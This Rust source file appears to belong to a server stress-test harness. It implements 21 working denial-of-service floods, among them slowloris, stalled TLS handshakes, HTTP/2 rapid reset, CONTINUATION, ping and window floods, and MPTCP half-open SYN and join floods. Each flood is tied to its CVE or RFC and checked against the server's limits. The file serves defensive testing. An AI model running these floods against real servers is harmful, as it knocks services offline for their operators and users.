//! What is done to servers, as data: what each flood is, where it is described, and what must be seen of it.

use std::{any::Any, future::Future, net::SocketAddr, time::Duration};

use mphttp::Client;
use tokio::{
    io::{AsyncReadExt, AsyncWriteExt},
    net::{TcpSocket, TcpStream},
    task::JoinSet,
    time::sleep,
};

use super::{
    frames::{
        ACK, CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, RST_STREAM, SETTINGS, WINDOW_UPDATE,
        begin, frame, head,
    },
    ground::{FLOOD, Ground, Kind, ROOM, Target, UPSTREAM},
    segments,
};

/// A kind of harm.
pub struct Flood {
    pub name: &'static str,
    /// Where it is described.
    pub see: &'static str,
    /// Whether it is about taking all connections that there may be.
    pub takes_all: bool,
    /// How long it takes to be under way.
    pub grows: Duration,
    /// Begins it; it ends when what is returned is dropped.
    pub begin: fn(&Ground) -> Box<dyn Any>,
    /// Says what should have been seen of it, and was not.
    pub check: fn(&Ground) -> Option<String>,
}

const fn flood(name: &'static str, see: &'static str, begin: fn(&Ground) -> Box<dyn Any>) -> Flood {
    Flood { name, see, takes_all: false, grows: Duration::from_millis(300), begin, check: |_| None }
}

const fn taking_all(name: &'static str, see: &'static str, begin: fn(&Ground) -> Box<dyn Any>) -> Flood {
    Flood { takes_all: true, grows: Duration::from_millis(1200), check: is_met, ..flood(name, see, begin) }
}

/// Servers have cut some of them, for the one reason or the other.
fn is_met(ground: &Ground) -> Option<String> {
    (ground.cuts("room") + ground.cuts("address") == 0.0).then(|| "no limit was met".to_owned())
}

pub const FLOODS: [Flood; 21] = [
    taking_all("idle connections", "RFC 9112 section 9.5", |ground| {
        held(ground, all, FLOOD, |mut stream, _| async move { until_closed(&mut stream).await })
    }),
    taking_all("slow heads, a byte at a time (slowloris)", "CVE-2007-6750", |ground| {
        held(ground, not_tls, FLOOD, |mut stream, _| async move {
            drip(&mut stream, b"GET / HTTP/1.1\r\nHost: x\r\nX: ", Duration::from_millis(200)).await;
        })
    }),
    taking_all("TLS handshakes that stall", "RFC 8446 section 5.1", |ground| {
        held(ground, tls, FLOOD, |mut stream, _| async move {
            drip(&mut stream, b"\x16\x03\x01\x02\x00\x01", Duration::from_secs(1)).await;
        })
    }),
    flood("slow bodies, a byte at a time", "CVE-2007-6750", |ground| {
        held(ground, not_tls, FLOOD, |mut stream, target| async move {
            let head = head1("POST", &target, "/nothing", "Content-Length: 1000000\r\n");
            drip(&mut stream, head.as_bytes(), Duration::from_millis(200)).await;
        })
    }),
    flood("slow uploads", "CVE-2007-6750", |ground| {
        held(ground, serves, FLOOD, |mut stream, target| async move {
            let name = format!("/up-{}", stream.local_addr().map_or(0, |address| address.port()));
            let head = head1("PUT", &target, &name, "Content-Length: 1000000\r\n");
            drip(&mut stream, head.as_bytes(), Duration::from_millis(200)).await;
        })
    }),
    flood("slow readers of a large file", "CVE-2005-1268", |ground| slow_readers(ground, FLOOD)),
    flood("connections that are closed at once", "RFC 9293 section 3.6", |ground| {
        flooding(ground, all, 8, |target| async move {
            for _ in 0..20 {
                let _ = connect(target.address).await;
            }
        })
    }),
    flood("TLS handshakes, one after the other", "RFC 8446 section 2", |ground| {
        flooding(ground, tls, 6, |target| async move {
            let client =
                Client::builder().danger_accept_invalid_certs(true).no_proxy().pool_max_idle_per_host(0);
            let client = client.timeout(Duration::from_secs(5)).build().unwrap();
            let _ = client.get(format!("https://{}/hello.txt", target.address)).send().await;
        })
    }),
    flood("requests on one connection, not read", "RFC 9112 section 9.3.2", |ground| {
        held(ground, not_tls, 20, |mut stream, target| async move {
            let many = head1("GET", &target, "/hello.txt", "").repeat(200);
            while stream.write_all(many.as_bytes()).await.is_ok() {}
        })
    }),
    flood("requests on one connection, read", "RFC 9112 section 9.3.2", |ground| {
        held(ground, not_tls, 4, |stream, target| async move {
            let many = head1("GET", &target, "/hello.txt", "").repeat(50);
            let (mut read, mut write) = stream.into_split();
            let reading = async {
                let mut piece = vec![0; 1 << 16];
                while let Ok(1..) = read.read(&mut piece).await {}
            };
            let writing = async {
                while write.write_all(many.as_bytes()).await.is_ok() {
                    sleep(Duration::from_millis(1)).await;
                }
            };
            tokio::join!(reading, writing);
        })
    }),
    flood("heads that never end", "RFC 9110 section 5.4", |ground| {
        flooding(ground, not_tls, 4, |target| async move {
            let Some(mut stream) = connect(target.address).await else { return };
            let begun = head1("GET", &target, "/", "");
            let _ = stream.write_all(begun.trim_end().as_bytes()).await;
            let fields = "\r\nx: 0123456789".repeat(1000);
            while stream.write_all(fields.as_bytes()).await.is_ok() {}
        })
    }),
    flood("HTTP/2: more streams than there may be", "RFC 9113 section 5.1.2", |ground| {
        framed(
            ground,
            |target| {
                (0..400)
                    .map(|n| request(&target, "GET", "/hello.txt", 2 * n + 1, END_STREAM))
                    .collect::<Vec<_>>()
                    .concat()
            },
            0,
            None,
        )
    }),
    flood("HTTP/2: answers without a window", "CVE-2019-9517", |ground| {
        framed(
            ground,
            |target| {
                (0..100)
                    .map(|n| request(&target, "GET", "/big", 2 * n + 1, END_STREAM))
                    .collect::<Vec<_>>()
                    .concat()
            },
            0,
            None,
        )
    }),
    flood("HTTP/2: windows of a byte", "CVE-2019-9511", |ground| {
        framed(
            ground,
            |target| {
                (0..100)
                    .map(|n| request(&target, "GET", "/big", 2 * n + 1, END_STREAM))
                    .collect::<Vec<_>>()
                    .concat()
            },
            0,
            Some(|n| frame(WINDOW_UPDATE, 0, 2 * (n % 100) + 1, &[0, 0, 0, 1])),
        )
    }),
    flood("HTTP/2: rapid reset", "CVE-2023-44487", |ground| {
        framed(
            ground,
            |target| {
                let pair = |n: u32| {
                    let id = 2 * n + 1;
                    [
                        request(&target, "GET", "/hello.txt", id, END_STREAM),
                        frame(RST_STREAM, 0, id, &[0, 0, 0, 8]),
                    ]
                    .concat()
                };
                (0..2000).map(pair).collect::<Vec<_>>().concat()
            },
            65_535,
            None,
        )
    }),
    flood("HTTP/2: heads that never end", "CVE-2024-27316", |ground| {
        framed(
            ground,
            |target| frame(HEADERS, 0, 1, &head("GET", &target.address.to_string(), &target.path("/"))),
            65_535,
            Some(|_| frame(CONTINUATION, 0, 1, &[&[0, 1, b'x', 127, 0x81, 0x7f][..], &[b'y'; 256]].concat())),
        )
    }),
    flood("HTTP/2: pings", "CVE-2019-9512", |ground| {
        framed(ground, |_| Vec::new(), 65_535, Some(|_| frame(PING, 0, 0, &[7; 8])))
    }),
    flood("HTTP/2: settings", "CVE-2019-9515", |ground| {
        framed(ground, |_| Vec::new(), 65_535, Some(|_| frame(SETTINGS, 0, 0, &[])))
    }),
    flood("HTTP/2: empty data", "CVE-2019-9518", |ground| {
        framed(
            ground,
            |target| request(&target, "POST", "/hello.txt", 1, 0),
            65_535,
            Some(|_| frame(DATA, 0, 1, &[])),
        )
    }),
    Flood {
        check: |ground| came(ground, "MPTcpExtMPCapableSYNRX"),
        ..flood("half-open handshakes with MP_CAPABLE", "RFC 4987; RFC 8684 section 3.1", |ground| {
            Box::new(Ends(Some(segments::send(ground, 10_000, |_| segments::CAPABLE.to_vec()))))
        })
    },
    Flood {
        check: |ground| came(ground, "MPTcpExtMPJoinSynRx"),
        ..flood(
            "half-open joins of connections that there are",
            "RFC 8684 section 3.2, RFC 7430",
            half_open_joins,
        )
    },
];

/// Clients that take and send hardly anything, but never nothing, at half of the places each.
pub const SLOW: Flood = Flood {
    check: is_met,
    grows: Duration::from_millis(1500),
    ..flood("slow readers, slow bodies", "CVE-2007-6750", |ground| {
        let half = ROOM / 2 + 20;
        let bodies = held(ground, not_tls, half, |mut stream, target| async move {
            let name = format!("/up-{}", stream.local_addr().map_or(0, |address| address.port()));
            let head = head1("PUT", &target, &name, "Content-Length: 1000000\r\n");
            drip(&mut stream, head.as_bytes(), Duration::from_millis(500)).await;
        });
        Box::new((bodies, slow_readers(ground, half)))
    })
};

fn slow_readers(ground: &Ground, count: usize) -> Box<dyn Any> {
    held(ground, not_tls, count, |mut stream, target| async move {
        let _ = stream.write_all(head1("GET", &target, "/big", "").as_bytes()).await;
        let mut byte = [0; 1];
        while let Ok(1) = stream.read(&mut byte).await {
            sleep(Duration::from_millis(500)).await;
        }
    })
}

/// Whether such segments reached the server.
fn came(ground: &Ground, counter: &str) -> Option<String> {
    let came = ground.server.counters().unwrap().get(counter).copied().unwrap_or(0);
    (came < 1000).then(|| format!("{counter} is {came}"))
}

/// Joins to connections of the attacker's own, whose tokens it knows.
fn half_open_joins(ground: &Ground) -> Box<dyn Any> {
    let serve = ground.targets[0].address;
    let connected = ground
        .attacker
        .run(|| {
            let mut stream =
                mptcp_socket::Connect::new(mptcp_socket::Protocol::MptcpOnly).to(&[serve]).unwrap().stream;
            let ask = "GET /hello.txt HTTP/1.1\r\nHost: x\r\n\r\n";
            std::io::Write::write_all(&mut stream, ask.as_bytes()).unwrap();
            std::io::Read::read(&mut stream, &mut [0; 1024]).unwrap();
            stream
        })
        .unwrap();
    let connections =
        ground.attacker.run(|| mptcp_paths::connections::Reader::open().unwrap().read().unwrap()).unwrap();
    let subflows = connections.connections.iter().flat_map(|connection| &connection.subflows);
    let token =
        subflows.filter_map(|subflow| subflow.mptcp.as_ref()).map(|mptcp| mptcp.token_remote).next().unwrap();
    let sending = segments::send(ground, 20_000, move |nonce| segments::join(token, nonce).to_vec());
    Box::new((connected, Ends(Some(sending))))
}

/// A thread that is waited for.
struct Ends(Option<std::thread::JoinHandle<()>>);

impl Drop for Ends {
    fn drop(&mut self) {
        if let Some(thread) = self.0.take() {
            thread.join().unwrap();
        }
    }
}

fn all(_: &Target) -> bool {
    true
}

fn tls(target: &Target) -> bool {
    target.kind == Kind::Tls
}

fn not_tls(target: &Target) -> bool {
    !tls(target)
}

fn serves(target: &Target) -> bool {
    target.kind == Kind::Serve
}

/// A connection with little room for answers.
async fn connect(address: SocketAddr) -> Option<TcpStream> {
    let socket = TcpSocket::new_v4().ok()?;
    socket.set_recv_buffer_size(4096).ok()?;
    socket.connect(address).await.ok()
}

/// Does something to each target at so many connections; again after a while where it is over.
fn held<Work>(
    ground: &Ground,
    of: fn(&Target) -> bool,
    count: usize,
    work: impl Fn(TcpStream, Target) -> Work + Copy + Send + Sync + 'static,
) -> Box<dyn Any>
where
    Work: Future<Output = ()> + Send + 'static,
{
    flooding(ground, of, count, move |target| async move {
        if let Some(stream) = connect(target.address).await {
            work(stream, target).await;
        }
        sleep(Duration::from_millis(500)).await;
    })
}

/// Does something again and again, so many times at once for each target.
fn flooding<Work>(
    ground: &Ground,
    of: fn(&Target) -> bool,
    count: usize,
    work: impl Fn(Target) -> Work + Copy + Send + Sync + 'static,
) -> Box<dyn Any>
where
    Work: Future<Output = ()> + Send + 'static,
{
    let mut tasks = JoinSet::new();
    for target in ground.targets.iter().copied().filter(of) {
        for _ in 0..count {
            let working = async move {
                loop {
                    work(target).await;
                    sleep(Duration::from_millis(1)).await;
                }
            };
            tasks.spawn_on(working, ground.bad.handle());
        }
    }
    Box::new(tasks)
}

/// Sends frames of HTTP/2 over some connections: some at first, and then others without end.
fn framed(
    ground: &Ground,
    first: impl Fn(Target) -> Vec<u8> + Copy + Send + Sync + 'static,
    window: u32,
    then: Option<fn(u32) -> Vec<u8>>,
) -> Box<dyn Any> {
    held(ground, not_tls, 16, move |mut stream, target| async move {
        // Half of them read what they are answered, the others don't.
        let reads = stream.local_addr().is_ok_and(|address| address.port().is_multiple_of(4));
        let mut bytes = begin(window);
        bytes.extend(frame(SETTINGS, ACK, 0, &[]));
        bytes.extend(first(target));
        let mut number = 0;
        let mut piece = vec![0; 1 << 14];
        loop {
            if stream.write_all(&bytes).await.is_err() {
                return;
            }
            if reads {
                while let Ok(1..) = stream.try_read(&mut piece) {}
            }
            bytes.clear();
            let Some(then) = then else { return until_closed(&mut stream).await };
            for _ in 0..200 {
                bytes.extend(then(number));
                number += 1;
            }
            sleep(Duration::from_millis(1)).await;
        }
    })
}

fn request(target: &Target, method: &str, path: &str, stream: u32, flags: u8) -> Vec<u8> {
    let authority = match target.kind {
        Kind::Forward => format!("{}:{UPSTREAM}", target.address.ip()),
        _ => target.address.to_string(),
    };
    frame(HEADERS, END_HEADERS | flags, stream, &head(method, &authority, path))
}

fn head1(method: &str, target: &Target, path: &str, fields: &str) -> String {
    format!("{method} {} HTTP/1.1\r\nHost: {}\r\n{fields}\r\n", target.path(path), target.address)
}

/// Sends this, and then one byte after the other.
async fn drip(stream: &mut TcpStream, first: &[u8], pause: Duration) {
    let mut bytes = first;
    while stream.write_all(bytes).await.is_ok() {
        bytes = b"x";
        sleep(pause).await;
    }
}

/// Waits for the other end, reading nothing but that.
async fn until_closed(stream: &mut TcpStream) {
    let mut piece = [0; 64];
    while let Ok(1..) = stream.read(&mut piece).await {
        sleep(Duration::from_secs(1)).await;
    }
}
